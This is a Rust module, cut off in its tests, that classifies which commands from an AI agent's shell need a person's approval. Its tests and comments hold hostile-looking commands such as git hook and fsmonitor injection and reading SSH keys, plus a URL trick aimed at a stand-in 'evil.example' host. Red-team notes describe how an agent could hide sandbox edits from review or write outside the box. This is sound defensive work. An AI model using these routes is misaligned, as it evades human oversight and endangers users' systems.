//! Can the sandbox contain a part, or does it need a person? (issue 15)
//!
//! Every command agentsh runs goes into a kernel box (`run::sandbox`): writes only to the
//! workspace, the temp directory and build caches; agentsh's own files and the credential
//! stores unreadable; signals scoped. Whatever a part does inside that box needs no question.
//! What the box cannot make harmless still needs a person, and this module names it:
//!
//! - [`EdgeKind::Destroys`]: it destroys work inside the workspace (`rm -r src`,
//!   `git reset --hard`). The box does not protect the workspace from itself; a yes runs it
//!   inside the box.
//! - [`EdgeKind::World`]: it acts on the world through the network or a daemon (push,
//!   publish, deploy, clusters, containers, `curl -X POST`). A yes runs it outside the box,
//!   where the credentials it needs are.
//! - [`EdgeKind::Outside`]: it cannot work inside the box (privileges, system changes, global
//!   installs, writes outside the workspace, agentsh's read-only paths). A yes runs it outside.
//! - [`EdgeKind::Unjudged`]: agentsh cannot read the text at all.
//!
//! Pure: the box's roots come in a [`BoxView`] built by `run` from the real box.

use crate::judge::assess::{Assessment, basename};
use crate::model::{Category, Risk};
use crate::text::url::{Url, find_in};
use serde::Serialize;

/// What the judge knows of the box a command would run in: plain values, from `run`.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct BoxView {
    /// The directory the command starts in (absolute).
    pub cwd: String,
    /// The user's home directory (absolute), for `~`.
    pub home: String,
    /// Roots the box may write (absolute): the workspace, temp directories, caches, devices.
    pub writable: std::sync::Arc<[String]>,
    /// Paths inside `writable` that stay read-only in the box (`.git/hooks`, `.git/config`,
    /// `.agents`): code the person's own tools run later.
    pub read_only: Vec<String>,
    /// `sandbox.network`: whether the box lets commands use the network (`"on"`, or through
    /// its proxy, which asks the person about a host not on its list).
    pub network: bool,
    /// A Python environment inside the workspace is active (`VIRTUAL_ENV`, the `pip` on PATH,
    /// or one the command activates): `pip install` writes there. Set from the agent's
    /// environment and text, which can only make a part run inside the box, where a false claim
    /// makes it fail, never escape.
    pub python_env_inside: bool,
}

/// Why a part needs a person although the box is there.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum EdgeKind {
    Destroys,
    World,
    Outside,
    Unjudged,
}

impl EdgeKind {
    /// Whether a person's yes runs the command outside the box: what it needs is not in it.
    pub fn runs_outside(self) -> bool {
        matches!(self, EdgeKind::World | EdgeKind::Outside)
    }
}

/// A part at the box's edge: what kind, and why, in words for the person.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Edge {
    pub kind: EdgeKind,
    pub why: String,
}

fn edge(kind: EdgeKind, why: impl Into<String>) -> Option<Edge> {
    Some(Edge { kind, why: why.into() })
}

/// Programs that raise privileges: nothing can elevate inside the box (`no_new_privs`).
const PRIVILEGE: &[&str] = &["sudo", "su", "doas", "pkexec", "runuser", "sudoedit", "run0"];

/// Directory names that builds make and remake: removing them destroys nothing.
const ARTEFACTS: &[&str] = &[
    "build",
    "dist",
    "target",
    "out",
    "node_modules",
    "__pycache__",
    ".pytest_cache",
    ".mypy_cache",
    ".ruff_cache",
    ".tox",
    ".nox",
    ".coverage",
    "coverage",
    "htmlcov",
    ".next",
    ".nuxt",
    ".turbo",
    ".parcel-cache",
    ".eggs",
    ".cache",
    ".gradle",
    "cmake-build-debug",
    "cmake-build-release",
];

/// Programs agentsh has no rule for that log in to other machines, or act on services, data
/// stores and accounts elsewhere: what they change is outside any box on this machine.
const REMOTE: &[&str] = &[
    "sshpass",
    "ssh-copy-id",
    "rcp",
    "rsh",
    "mosh",
    "autossh",
    "sshfs",
    // databases and their restore tools
    "sqlcmd",
    "pg_restore",
    "pg_dump",
    "pg_dumpall",
    "dropdb",
    "createdb",
    "mongorestore",
    "mongodump",
    "mongoimport",
    "influx",
    "clickhouse-client",
    "cockroach",
    "bq",
    "snowsql",
    "databricks",
    // clusters, backups, messaging, secrets, CI and hosting services
    "velero",
    "argocd",
    "flux",
    "istioctl",
    "eksctl",
    "minikube",
    "kind",
    "nomad",
    "consul",
    "restic",
    "borg",
    "kopia",
    "rclone",
    "kafka-topics",
    "kafka-configs",
    "kafka-console-producer",
    "rabbitmqctl",
    "rabbitmqadmin",
    "nats",
    "vault",
    "op",
    "doppler",
    "infisical",
    "circleci",
    "railway",
    "render",
    "supabase",
    "stripe",
    "sentry-cli",
    "npm-publish",
    "ansible-vault",
];

/// Package-manager subcommands that publish or change an account on a registry.
const PUBLISH: &[&str] = &[
    "publish",
    "unpublish",
    "deprecate",
    "owner",
    "dist-tag",
    "access",
    "adduser",
    "login",
    "logout",
    "token",
    "team",
    "org",
    "yank",
    "push",
    "upload",
    "release",
];

/// Whether the box can contain the part; `None` means it can (or the part is denied anyway).
pub fn edge_of(a: &Assessment, view: &BoxView) -> Option<Edge> {
    if a.risk == Risk::Forbidden {
        return None;
    }
    if a.rule == "parse" {
        return edge(EdgeKind::Unjudged, "is text agentsh cannot read, so agentsh cannot tell what would run");
    }
    // Issue 28: a value computed when it runs, sent to another machine (`assess::exfiltration`).
    if a.rule == "exfiltration" {
        return edge(EdgeKind::World, "sends a value computed when it runs to another machine");
    }
    // Parts made without unwrapping (redirects) keep their words in `argv` only.
    let argv = if a.inner().is_empty() { a.argv.as_slice() } else { a.inner() };
    let first = argv.first()?;
    // Wrappers in front of the program (`sudo`, `env`, `nice` ...) stay in `argv`.
    let wrappers = &a.argv[..a.argv.len().saturating_sub(argv.len())];
    if let Some(w) = wrappers.iter().chain([first]).find(|w| PRIVILEGE.contains(&basename(w))) {
        return edge(
            EdgeKind::Outside,
            format!("runs as another user ({}), which cannot work inside the sandbox", basename(w)),
        );
    }
    if a.rule == "redirect" {
        return write_edge(view, argv.get(1).map(String::as_str).into_iter());
    }
    let program = basename(first);
    let args = Argv::new(&argv[1..]);
    match a.category {
        Category::FileRead | Category::Shell | Category::Blocked => None,
        // Unknown programs run inside the box; a few that reach other machines or publish,
        // which agentsh has no rule for, do not.
        Category::Unknown if REMOTE.contains(&program) => {
            edge(EdgeKind::World, format!("connects to another machine (`{program}`)"))
        }
        Category::Unknown => build_tools(first, &args, view),
        Category::FileWrite => file_write(program, &args, view),
        Category::FileDelete => file_delete(program, &args, view),
        Category::System => system(program, &args, view),
        Category::Network => network(program, &args, view),
        Category::DevOps => dev_ops(program, &args, a.risk),
        Category::BuildTools => build_tools(first, &args, view),
    }
}

fn file_write(program: &str, args: &Argv, view: &BoxView) -> Option<Edge> {
    if program == "mknod" {
        return edge(EdgeKind::Outside, "creates device files, which cannot work inside the sandbox");
    }
    if program == "truncate" {
        return edge(EdgeKind::Destroys, "truncates files, which the sandbox cannot undo");
    }
    if program == "rsync" && args.positionals.iter().any(|p| is_remote(p)) {
        return edge(EdgeKind::World, "copies files to or from another machine");
    }
    // A link (or a file that may be one: `cp -P`, `mv`) put in a git directory: the person's
    // git later writes what a link there names (`COMMIT_EDITMSG`, `FETCH_HEAD`, `logs/HEAD`),
    // outside the box (rt3 G1). The box removes such links when the command ends; this asks
    // before, where the text says so.
    if matches!(program, "cp" | "install" | "ln" | "link" | "rsync" | "mv") {
        let dest = args.value_of(&["-t", "--target-directory"]).or(args.positionals.last().copied());
        if let Some(d) = dest.filter(|d| in_git_dir(view, d)) {
            return edge(
                EdgeKind::Outside,
                format!(
                    "puts {d} in a git directory, where git follows a link: the person's git would later write \
                     the file a link there names, outside the sandbox"
                ),
            );
        }
    }
    match program {
        // Sources are only read: the destination is what is written.
        "cp" | "install" | "ln" | "link" | "rsync" => {
            let dest = args.value_of(&["-t", "--target-directory"]).or(args.positionals.last().copied());
            write_edge(view, dest.into_iter())
        }
        // `sed -i SCRIPT FILE...`: the script is not a file (issue 28, sed read as GNU sed reads it).
        "sed" | "gsed" => write_edge(view, crate::judge::sed::files(&args.words).into_iter()),
        _ => write_edge(view, args.positionals.iter().copied()),
    }
}

fn file_delete(program: &str, args: &Argv, view: &BoxView) -> Option<Edge> {
    if let Some(e) = write_edge(view, args.positionals.iter().copied()) {
        return Some(e);
    }
    if program == "find" && args.flags.contains(&"-delete") {
        return edge(
            EdgeKind::Destroys,
            "deletes every file it finds; the sandbox does not protect the workspace from itself",
        );
    }
    if matches!(program, "shred" | "srm" | "wipe") {
        return edge(EdgeKind::Destroys, "overwrites files so they cannot be recovered");
    }
    let recursive = args.has_short('r') || args.has_short('R') || args.has_long("--recursive");
    if program == "rm" && recursive {
        let kept: Vec<&str> = args.positionals.iter().copied().filter(|p| !is_artefact(p)).collect();
        if !kept.is_empty() || args.positionals.is_empty() {
            let shown = kept.first().copied().unwrap_or("its arguments");
            return edge(
                EdgeKind::Destroys,
                format!(
                    "deletes {shown} recursively inside the workspace; the sandbox does not protect the workspace from itself"
                ),
            );
        }
    }
    None
}

fn system(program: &str, args: &Argv, view: &BoxView) -> Option<Edge> {
    match program {
        "chmod" | "chown" | "chgrp" => write_edge(view, args.positionals.iter().skip(1).copied()),
        "kill" | "pkill" | "killall" | "skill" | "xkill" => {
            edge(EdgeKind::Outside, "signals processes, and the sandbox lets a command signal only its own")
        }
        _ => edge(EdgeKind::Outside, "changes the system, which cannot work inside the sandbox"),
    }
}

fn network(program: &str, args: &Argv, view: &BoxView) -> Option<Edge> {
    match program {
        "curl" | "wget" | "http" | "https" | "xh" | "aria2c" | "lynx" | "links" | "w3m" => {
            let urls: Vec<&str> = args.positionals.iter().copied().filter(|p| looks_like_url(p)).collect();
            if sends_data(program, args) && (urls.is_empty() || !urls.iter().all(|u| is_local_url(u))) {
                return edge(EdgeKind::World, "sends data to another machine (an upload or a POST, PUT or DELETE)");
            }
            if !view.network {
                return edge(EdgeKind::Outside, "uses the network, which the sandbox blocks (sandbox.network is off)");
            }
            write_edge(view, args.value_of(&["-o", "--output", "-O", "--output-document"]).into_iter())
        }
        _ => edge(EdgeKind::World, "connects to another machine"),
    }
}

fn dev_ops(program: &str, args: &Argv, risk: Risk) -> Option<Edge> {
    match program {
        "git" => git(args, risk),
        "sqlite3" => None,
        _ => edge(EdgeKind::World, format!("acts on services, containers, clusters or cloud resources (`{program}`)")),
    }
}

fn git(args: &Argv, risk: Risk) -> Option<Edge> {
    let sub = args.subcommand(&["-C", "-c", "--git-dir", "--work-tree", "--namespace", "--exec-path"]);
    // After the subcommand: `git -C app submodule update` has `app` before it.
    let rest: Vec<&str> = args.positionals.iter().skip_while(|p| Some(**p) != sub).skip(1).copied().collect();
    match sub {
        Some("push" | "send-email" | "request-pull" | "svn") => {
            return edge(EdgeKind::World, "changes a remote repository");
        }
        Some("config") if !args.flags.iter().any(|f| f.starts_with("--get") || matches!(*f, "--list" | "-l")) => {
            return edge(
                EdgeKind::Outside,
                "changes git's config, which is read-only inside the sandbox (it can make git run programs)",
            );
        }
        Some("remote") if rest.first().is_some_and(|s| !matches!(*s, "show" | "get-url" | "-v" | "update")) => {
            return edge(EdgeKind::Outside, "changes .git/config, which is read-only inside the sandbox");
        }
        Some("submodule") if rest.first().is_some_and(|s| matches!(*s, "add" | "init" | "set-url" | "set-branch")) => {
            return edge(EdgeKind::Outside, "changes .git/config, which is read-only inside the sandbox");
        }
        // rt7 A1: `.git/modules`, where git keeps and adopts submodules' git directories, is
        // read-only inside the sandbox, and so is each submodule's config there, which
        // `update` rewrites every time (`core.worktree`, git 2.47), as `sync` does its url;
        // `--init` and `deinit` change `.git/config`.
        Some("submodule")
            if rest.first().is_some_and(|s| matches!(*s, "update" | "absorbgitdirs" | "sync" | "deinit")) =>
        {
            return edge(
                EdgeKind::Outside,
                "changes the submodules' git directories in .git/modules (their config) or .git/config, read-only \
                 inside the sandbox",
            );
        }
        _ => {}
    }
    // What hides the box's edits from the review the person relies on (rt3 G3): an index bit
    // that makes `git status` and `git diff` skip a file, and a replacement object that makes
    // `git show` and `git log -p` show another blob than the one checked out.
    let blinds = match sub {
        Some("update-index") => args.flags.iter().any(|f| matches!(*f, "--skip-worktree" | "--assume-unchanged")),
        Some("replace") => {
            let listing = args.flags.iter().any(|f| matches!(*f, "-l" | "--list" | "-d" | "--delete"));
            !listing && (!rest.is_empty() || args.has_long("--convert-graft-file"))
        }
        Some("update-ref") => rest.iter().any(|r| r.starts_with("refs/replace/")) || args.flags.contains(&"--stdin"),
        _ => false,
    };
    if blinds {
        return edge(
            EdgeKind::Destroys,
            "hides changes from `git status`, `git diff` or `git show` (an index bit, or a replacement object), \
             the review the person relies on before running what the sandbox wrote",
        );
    }
    let discards = "discards uncommitted changes to files; the sandbox does not protect the workspace from itself";
    match sub {
        // `git checkout BRANCH` switches; `git checkout [REV] [--] PATH...` overwrites files.
        Some("checkout") if !args.flags.iter().any(|f| matches!(*f, "-b" | "-B" | "--orphan")) => {
            let paths = args.words.contains(&"--")
                || rest.len() >= 2
                || rest.first().is_some_and(|p| *p == "." || p.contains(['.', '*']) || p.ends_with('/'))
                || args.has_short('f')
                || args.has_long("--force");
            if paths {
                return edge(EdgeKind::Destroys, discards);
            }
        }
        Some("restore") if !(args.has_long("--staged") && !args.has_long("--worktree") && !args.has_short('W')) => {
            return edge(EdgeKind::Destroys, discards);
        }
        Some("switch") if args.has_long("--discard-changes") || args.has_short('f') || args.has_long("--force") => {
            return edge(EdgeKind::Destroys, discards);
        }
        Some("stash") if rest.first().is_some_and(|s| matches!(*s, "drop" | "clear")) => {
            return edge(
                EdgeKind::Destroys,
                "deletes stashed changes; the sandbox does not protect the workspace from itself",
            );
        }
        Some("merge" | "cherry-pick" | "rebase" | "revert" | "am") if args.has_long("--abort") => {
            return edge(EdgeKind::Destroys, discards);
        }
        _ => {}
    }
    // The built-in rules mark every git command that discards work as high.
    (risk >= Risk::High).then(|| Edge {
        kind: EdgeKind::Destroys,
        why: "discards work in the repository; the sandbox does not protect the workspace from itself".into(),
    })
}

/// `written`: the program as the command names it (`.venv/bin/pip`), for where it lives.
fn build_tools(written: &str, args: &Argv, view: &BoxView) -> Option<Edge> {
    let program = basename(written);
    let sub = args.subcommand(&[]);
    let global = args.has_short('g') || args.has_long("--global") || sub == Some("global");
    match program {
        "npm" | "pnpm" | "yarn" | "bun" => {
            if sub.is_some_and(|s| PUBLISH.contains(&s)) {
                return edge(
                    EdgeKind::World,
                    format!("changes a package registry (`{program} {}`)", sub.unwrap_or("")),
                );
            }
            if global || sub == Some("link") && args.positionals.len() == 1 {
                return edge(EdgeKind::Outside, "installs globally, outside the workspace");
            }
            None
        }
        "cargo" => match sub {
            Some("publish" | "yank" | "owner" | "login" | "logout") => {
                edge(EdgeKind::World, "changes the crates.io registry or its login")
            }
            Some("install" | "uninstall") => {
                edge(EdgeKind::Outside, "installs programs into ~/.cargo/bin, outside the workspace")
            }
            _ => None,
        },
        "go" if sub == Some("install") => {
            edge(EdgeKind::Outside, "installs programs into ~/go/bin, outside the workspace")
        }
        "gem" if sub.is_some_and(|s| PUBLISH.contains(&s)) => edge(EdgeKind::World, "changes a package registry"),
        "gem" | "cpan" | "cpanm" | "conda" | "mamba" | "pipx"
            if sub.is_some_and(is_install) || program.starts_with("cpan") =>
        {
            edge(EdgeKind::Outside, "installs packages outside the workspace")
        }
        "poetry" | "pdm" | "uv" | "twine" | "flit" | "hatch" if sub.is_some_and(|s| PUBLISH.contains(&s)) => {
            edge(EdgeKind::World, "publishes a package")
        }
        "pip" | "pip3" if sub.is_some_and(is_install) => pip_install(written, args, view),
        _ => None,
    }
}

/// Where `pip install` writes: the environment the pip belongs to. A pip named by its path
/// (`.venv/bin/pip`) is its own environment's; a bare `pip` is the active environment's
/// (`BoxView::python_env_inside`). Issue 29, item 4: a project's virtual environment is in the
/// workspace, so installing into it runs in the box; each reason says what was found.
fn pip_install(written: &str, args: &Argv, view: &BoxView) -> Option<Edge> {
    if let Some(t) = args.value_of(&["-t", "--target", "--prefix", "--root"]) {
        return write_edge(view, [t].into_iter());
    }
    if args.has_long("--user") {
        return edge(EdgeKind::Outside, "installs Python packages into your home (--user), outside the workspace");
    }
    if written.contains('/') {
        return match place(view, written) {
            Place::Inside | Place::Unknown => None,
            Place::ReadOnly | Place::Outside => edge(
                EdgeKind::Outside,
                format!("installs Python packages with {written}, whose environment is outside the workspace"),
            ),
        };
    }
    if view.python_env_inside {
        return None;
    }
    edge(
        EdgeKind::Outside,
        format!(
            "installs Python packages outside the workspace: no virtual environment inside it is active here \
             (a project's own, such as .venv/bin/{}, runs in the sandbox)",
            basename(written)
        ),
    )
}

/// Whether `text` activates a Python environment inside the workspace before it runs pip
/// (`source .venv/bin/activate && pip install x`): then a bare `pip` is that environment's.
/// A wrong yes only lets pip try inside the box, where writes outside the workspace fail.
pub fn activates_python_env(text: &str, view: &BoxView) -> bool {
    if !text.contains("activate") {
        return false;
    }
    let Ok(script) = crate::judge::parse::parse(text) else { return false };
    script.commands.iter().any(|c| {
        let words: Vec<&str> = c.words.iter().map(|w| w.text()).collect();
        match words.as_slice() {
            ["source" | ".", path, ..] => {
                path.ends_with("/bin/activate") && matches!(place(view, path), Place::Inside | Place::ReadOnly)
            }
            _ => false,
        }
    })
}

fn is_install(sub: &str) -> bool {
    matches!(sub, "install" | "uninstall" | "remove" | "update" | "upgrade")
}

/// The first written path that the box would refuse, as an edge.
fn write_edge<'a>(view: &BoxView, paths: impl Iterator<Item = &'a str>) -> Option<Edge> {
    for p in paths {
        match place(view, p) {
            Place::Inside | Place::Unknown => {}
            Place::ReadOnly => {
                return edge(
                    EdgeKind::Outside,
                    format!("writes {p}, which is read-only inside the sandbox (code that git or agentsh runs later)"),
                );
            }
            Place::Outside => {
                return edge(
                    EdgeKind::Outside,
                    format!("writes {p}, outside the workspace, which the sandbox does not allow"),
                );
            }
        }
    }
    None
}

#[derive(Debug, PartialEq, Eq)]
enum Place {
    Inside,
    ReadOnly,
    Outside,
    /// Only known when it runs (`$VAR`, a command substitution): the box decides then.
    Unknown,
}

/// Where a path written by a command falls. Lexical: `..` is resolved by its text.
fn place(view: &BoxView, word: &str) -> Place {
    if word.contains(['$', '`']) || word.is_empty() {
        return Place::Unknown;
    }
    // `~alice/...`: someone else's home.
    let Some(path) = absolute(view, word) else { return Place::Outside };
    let under = |root: &String| path == *root || path.starts_with(&format!("{}/", root.trim_end_matches('/')));
    if view.read_only.iter().any(under) {
        Place::ReadOnly
    } else if view.writable.iter().any(under) {
        Place::Inside
    } else {
        Place::Outside
    }
}

/// `word` as an absolute, normalized path (`~` and the cwd resolved by their text); `None` for
/// another user's home (`~alice/x`).
fn absolute(view: &BoxView, word: &str) -> Option<String> {
    let word = word.trim_end_matches(['*', '?']);
    let absolute = if word == "~" {
        view.home.clone()
    } else if let Some(rest) = word.strip_prefix("~/") {
        format!("{}/{rest}", view.home)
    } else if word.starts_with('~') {
        return None;
    } else if word.starts_with('/') {
        word.to_string()
    } else {
        format!("{}/{word}", view.cwd)
    };
    Some(normalize(&absolute))
}

/// Whether `word` names a git directory (`.git`) or something in one, by its text.
fn in_git_dir(view: &BoxView, word: &str) -> bool {
    !word.contains(['$', '`']) && absolute(view, word).is_some_and(|p| p.split('/').any(|c| c == ".git"))
}

/// Whether the box lets a command write `path` (absolute, or relative to the view's cwd).
pub fn writable_in(view: &BoxView, path: &str) -> bool {
    place(view, path) == Place::Inside
}

/// Resolves `.` and `..` and repeated slashes in an absolute path.
pub(crate) fn normalize(path: &str) -> String {
    let mut parts: Vec<&str> = Vec::new();
    for seg in path.split('/') {
        match seg {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            s => parts.push(s),
        }
    }
    format!("/{}", parts.join("/"))
}

fn is_artefact(path: &str) -> bool {
    if path.starts_with(['/', '~']) || path.contains(['$', '`', '*', '?']) || path.split('/').any(|s| s == "..") {
        return false;
    }
    let name = path.trim_end_matches('/').rsplit('/').next().unwrap_or(path);
    ARTEFACTS.contains(&name) || name.ends_with(".egg-info")
}

fn is_remote(arg: &str) -> bool {
    // `host:path` or `user@host:path`, not a local path with a colon after a slash.
    arg.split_once(':').is_some_and(|(host, _)| !host.is_empty() && !host.contains('/')) || arg.starts_with("rsync://")
}

fn looks_like_url(word: &str) -> bool {
    word.contains("://")
        || word.starts_with("localhost")
        || word.starts_with("127.")
        || word.contains('.') && !word.contains(['{', ' ', '='])
}

/// Whether a URL stays on this machine however a program reads it (`text::url`). Before, the
/// host was cut at the first `:` and `127.` was a prefix, so `http://localhost:80@evil.example/`
/// and `http://127.evil.example/` counted as local, and a POST to them ran in the box unasked.
pub(crate) fn is_local_url(url: &str) -> bool {
    Url::parse(url).is_some_and(|u| u.is_local())
}

/// Every `scheme://` URL in a command's words, after quote removal (`curl 'https://a'@b` gives
/// the program `https://a@b`), for the person to see where it goes. Unparsable text is read as
/// it is.
pub fn urls_in(text: &str) -> Vec<Url> {
    if !text.contains("://") {
        return Vec::new();
    }
    let mut found: Vec<Url> = match crate::judge::parse::parse(text) {
        Ok(script) => script
            .commands
            .iter()
            .flat_map(|c| c.assignments.iter().map(|(_, w)| w).chain(&c.words))
            .flat_map(|w| find_in(w.text()))
            .collect(),
        Err(_) => find_in(text),
    };
    let mut seen = std::collections::HashSet::new();
    found.retain(|u| seen.insert(u.text.clone()));
    found
}

fn sends_data(program: &str, args: &Argv) -> bool {
    let method = args.value_of(&["-X", "--request", "--method"]).map(|m| m.to_ascii_uppercase());
    if method.as_deref().is_some_and(|m| !matches!(m, "GET" | "HEAD" | "OPTIONS")) {
        return true;
    }
    const DATA: &[&str] = &[
        "-d",
        "--data",
        "--data-raw",
        "--data-binary",
        "--data-urlencode",
        "--data-ascii",
        "--json",
        "-F",
        "--form",
        "--form-string",
        "-T",
        "--upload-file",
        "--post-data",
        "--post-file",
        "--body-data",
        "--body-file",
    ];
    if args.flags.iter().any(|f| DATA.iter().any(|d| f == d || f.starts_with(&format!("{d}=")))) {
        return true;
    }
    // httpie and xh: `http POST url field=value`.
    matches!(program, "http" | "https" | "xh")
        && args.positionals.first().is_some_and(|m| matches!(*m, "POST" | "PUT" | "PATCH" | "DELETE"))
}

/// An argv read without a program's grammar: flags, their values where asked for, positionals.
struct Argv<'a> {
    words: Vec<&'a str>,
    flags: Vec<&'a str>,
    positionals: Vec<&'a str>,
}

impl<'a> Argv<'a> {
    fn new(words: &'a [String]) -> Argv<'a> {
        let words: Vec<&str> = words.iter().map(String::as_str).collect();
        let (mut flags, mut positionals, mut dashes) = (Vec::new(), Vec::new(), false);
        for w in &words {
            if dashes || !w.starts_with('-') || *w == "-" {
                positionals.push(*w);
            } else if *w == "--" {
                dashes = true;
            } else {
                flags.push(*w);
            }
        }
        Argv { words, flags, positionals }
    }

    /// `-r` alone or inside a cluster of short flags (`-rf`).
    fn has_short(&self, c: char) -> bool {
        self.flags.iter().any(|f| !f.starts_with("--") && f[1..].contains(c))
    }

    fn has_long(&self, name: &str) -> bool {
        self.flags.iter().any(|f| *f == name || f.starts_with(&format!("{name}=")))
    }

    /// The value of the first of `names` present: `-o v`, `-ov`, `--out v`, `--out=v`.
    fn value_of(&self, names: &[&str]) -> Option<&'a str> {
        for (i, w) in self.words.iter().enumerate() {
            for n in names {
                if w == n {
                    return self.words.get(i + 1).copied();
                }
                if let Some(v) = w.strip_prefix(n) {
                    let v = if n.starts_with("--") { v.strip_prefix('=') } else { Some(v) };
                    if let Some(v) = v.filter(|v| !v.is_empty()) {
                        return Some(v);
                    }
                }
            }
        }
        None
    }

    /// The first positional word, skipping the values of `value_opts` given before it.
    fn subcommand(&self, value_opts: &[&str]) -> Option<&'a str> {
        let mut skip = false;
        for w in &self.words {
            if skip {
                skip = false;
            } else if value_opts.contains(w) {
                skip = true;
            } else if !w.starts_with('-') {
                return Some(w);
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::judge::{assess, parse};

    fn view() -> BoxView {
        BoxView {
            cwd: "/work/app/src".into(),
            home: "/home/u".into(),
            writable: vec!["/work/app".into(), "/tmp".into(), "/home/u/.cache".into(), "/dev/null".into()].into(),
            read_only: vec!["/work/app/.git/hooks".into(), "/work/app/.git/config".into(), "/work/app/.agents".into()],
            network: true,
            python_env_inside: false,
        }
    }

    /// The edge kinds of a command's parts, `None` where the box contains the part.
    fn kinds(text: &str, view: &BoxView) -> Vec<Option<EdgeKind>> {
        assess::assess(&parse::parse(text).unwrap()).iter().map(|a| edge_of(a, view).map(|e| e.kind)).collect()
    }

    fn contained(text: &str) -> bool {
        kinds(text, &view()).iter().all(Option::is_none)
    }

    fn kind(text: &str) -> Option<EdgeKind> {
        kinds(text, &view()).into_iter().flatten().next()
    }

    #[test]
    fn everyday_work_inside_the_workspace_is_contained() {
        // Issue 15's list of what runs without asking, inside the box.
        for t in [
            "pytest -q",
            "python -m pytest tests/",
            "cargo build --release",
            "cargo test",
            "npm test",
            "npm run build",
            "npm install",
            "go test ./...",
            "make -j4",
            "python script.py",
            "python3 -c 'print(1)'",
            "node -e 'console.log(1)'",
            "some-unknown-tool --flag",
            "git add -A",
            "git commit -m 'fix: x'",
            "git checkout -b feature",
            "git checkout main",
            "git restore --staged src/app.py",
            "git stash",
            "git pull",
            // What reads them (rt7 A1).
            "git submodule status",
            "git submodule foreach git status",
            "mkdir -p build/out",
            "touch ./x",
            "echo x > out.txt",
            "echo x >> ../README.md",
            "cat a | tee log.txt",
            "sed -i 's/a/b/' src/main.rs",
            "cp /etc/hosts ./hosts",
            "mv a.txt b.txt",
            "chmod +x run.sh",
            "tar xzf vendor.tgz",
            "unzip data.zip -d data",
            "rm notes.txt",
            "rm -rf build dist node_modules __pycache__ target",
            "rm -rf ./target/",
            "rm -rf pkg.egg-info",
            "curl -sSL https://example.com/x.tgz -o /tmp/x.tgz",
            "wget https://example.com/file",
            "curl -X POST http://localhost:8000/api -d '{}'",
            "echo hi > /tmp/scratch.txt",
            "ls > /dev/null",
            "cat ~/.ssh/id_rsa",
            "poetry install",
            "uv sync",
            "npx prettier --write .",
        ] {
            assert!(contained(t), "{t}: {:?}", kinds(t, &view()));
        }
    }

    #[test]
    fn destruction_inside_the_workspace_needs_a_person() {
        for t in [
            "rm -rf src",
            "rm -r docs build",
            "rm -fr .",
            "rm -rf $DIR",
            "rm --recursive lib",
            "git reset --hard",
            "git clean -fdx",
            "git checkout -- .",
            "git branch -D feature",
            "git stash clear",
            "truncate -s 0 src/main.rs",
            "git checkout src/app.py",
            "git checkout HEAD~1 src/app.py tests/test_app.py",
            "git checkout -- src",
            "git checkout .",
            "git checkout -f main",
            "git restore setup.py",
            "git restore --staged --worktree x",
            "git switch --discard-changes main",
            "git stash drop",
            "git merge --abort",
            "find . -name '*.pyc' -delete",
            "shred secret.txt",
        ] {
            assert_eq!(kind(t), Some(EdgeKind::Destroys), "{t}");
        }
    }

    #[test]
    fn acting_on_the_world_needs_a_person() {
        for t in [
            "git push",
            "git push origin main --force",
            "git -C repo push",
            "npm publish",
            "cargo publish",
            "twine upload dist/*",
            "curl -X POST https://api.example.com/x",
            "curl -d @data.json https://example.com",
            "curl --data=x https://example.com",
            "http POST example.com a=1",
            "wget --post-data=x https://example.com",
            "ssh host ls",
            "scp a host:/tmp/",
            "rsync -a . host:/srv/",
            "kubectl apply -f x.yaml",
            "docker run --rm alpine",
            "terraform apply",
            "aws s3 rm s3://bucket/x",
            "gh pr create --fill",
            "sshpass -p secret git push -u origin main",
            "sqlcmd -S prod -Q 'DELETE FROM orders'",
            "velero restore create --from-backup nightly",
            "psql -c 'drop table x'",
        ] {
            assert_eq!(kind(t), Some(EdgeKind::World), "{t}");
        }
    }

    #[test]
    fn what_cannot_work_inside_the_box_needs_a_person() {
        for t in [
            "sudo apt install x",
            "sudo ls",
            "apt-get install -y tmux",
            "systemctl restart nginx",
            "touch ~/x",
            "echo x >> ~/.bashrc",
            "cp a /etc/x",
            "mkdir /opt/tool",
            "echo x > /work/app/.git/hooks/pre-commit",
            "cp evil ../.git/hooks/pre-commit",
            "git config core.fsmonitor 'sh -c evil'",
            "git config --global user.name x",
            "git remote add origin https://x",
            // rt7 A1: submodules' git directories are made in `.git/modules`, read-only, and
            // `update` rewrites each one's config there.
            "git submodule update --init --recursive",
            "git -C app submodule update --init",
            "git submodule update",
            "git submodule update --remote",
            "git submodule absorbgitdirs",
            "git submodule sync --recursive",
            "git submodule deinit -f lib",
            "npm install -g typescript",
            "cargo install ripgrep",
            "pip install requests",
            "pip install --user requests",
            "kill 1234",
            "pkill -f server",
            "chmod 600 ~/.ssh/config",
            "touch ~alice/x",
            "mknod dev/sda b 8 0",
        ] {
            assert_eq!(kind(t), Some(EdgeKind::Outside), "{t}");
        }
    }

    #[test]
    fn a_python_environment_in_the_workspace_takes_pip_installs() {
        let mut v = view();
        v.python_env_inside = true;
        assert_eq!(kinds("pip install -e .", &v), [None]);
        assert_eq!(kinds("pip install --user x", &v), [Some(EdgeKind::Outside)]);
        assert_eq!(kinds("pip install -t vendor x", &view()), [None]);
    }

    /// Issue 29, item 4: a project's own environment, named by its path or activated in the
    /// same command, installs inside the workspace; the reason given otherwise is true.
    #[test]
    fn a_project_environment_is_recognised_and_reasons_are_true() {
        for t in [
            ".venv/bin/pip install six",
            "./venv/bin/pip3 install -r requirements.txt",
            "/work/app/.venv/bin/pip install six",
            "python3 -m venv .venv && .venv/bin/pip install six",
            "../.venv/bin/pip install six",
        ] {
            assert!(contained(t), "{t}: {:?}", kinds(t, &view()));
        }
        let why =
            |t: &str| assess::assess(&parse::parse(t).unwrap()).iter().find_map(|a| edge_of(a, &view())).map(|e| e.why);
        let outside = why("/usr/bin/pip install six").unwrap();
        assert!(outside.contains("with /usr/bin/pip, whose environment is outside"), "{outside}");
        let home = why("~/.venvs/x/bin/pip install six").unwrap();
        assert!(home.contains("outside the workspace"), "{home}");
        assert!(why("pip install six").unwrap().contains("no virtual environment inside it is active here"));
        assert!(why("pip install --user six").unwrap().contains("--user"));
        for (t, active) in [
            ("source .venv/bin/activate && pip install six", true),
            (". venv/bin/activate; pip3 install -r requirements.txt", true),
